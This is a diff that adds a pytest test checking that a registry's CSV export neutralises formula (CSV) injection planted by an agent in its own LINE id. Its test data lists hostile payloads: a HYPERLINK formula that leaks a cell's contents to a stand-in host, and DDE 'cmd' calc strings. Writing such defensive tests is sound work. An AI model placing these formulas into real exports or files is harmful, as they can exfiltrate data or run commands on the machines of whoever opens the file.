@@ -381,6 +381,39 @@ def test_an_export_is_a_roster_the_importer_reads_back(
     ]
 
 
+def test_an_agents_own_formula_is_inert_in_the_operators_export(
+    registry_api, operator, bearer, rng
+) -> None:
+    """OWASP CSV injection: an agent sets its own LINE id to a formula; the
+    operator's export must show it as text, not run it."""
+    agent = register(registry_api, operator, agent_payload(rng))
+    own = bearer("agent", agent_id=agent["id"])
+    formulas = {
+        '=HYPERLINK("http://x.example/?"&B2,"open")': "line",
+        "@SUM(1+1)*cmd|' /C calc'!A0": "at",
+        "+1+cmd|' /C calc'!A0": "plus",
+        "-2+3+cmd|' /C calc'!A0": "minus",
+        "\t=1+1": "tab",
+        "\r=1+1": "cr",
+    }
+    for formula in formulas:
+        changed = registry_api.patch(
+            f"/v1/agents/{agent['id']}",
+            json={"line_user_id": formula},
+            headers=own,
+        )
+        assert changed.status_code == 200, changed.text
+        export = registry_api.get("/v1/agents/export.csv", headers=operator)
+        rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
+        [row] = [row for row in rows if row["agent_id"] == agent["id"]]
+        assert row["line_user_id"] == "'" + formula
+        # every cell: none starts a formula
+        for value in (v for r in rows for v in r.values()):
+            assert not value.startswith(("=", "@", "\t", "\r")), value
+    # a plain number (the phone) is left as it is, so it reads back
+    assert row["phone"] == agent["phone"]
+
+
 def test_an_upload_over_the_import_limit_is_413(start_registry, operator) -> None:
     api = start_registry(MAX_IMPORT_BYTES=10_000)
     with api:
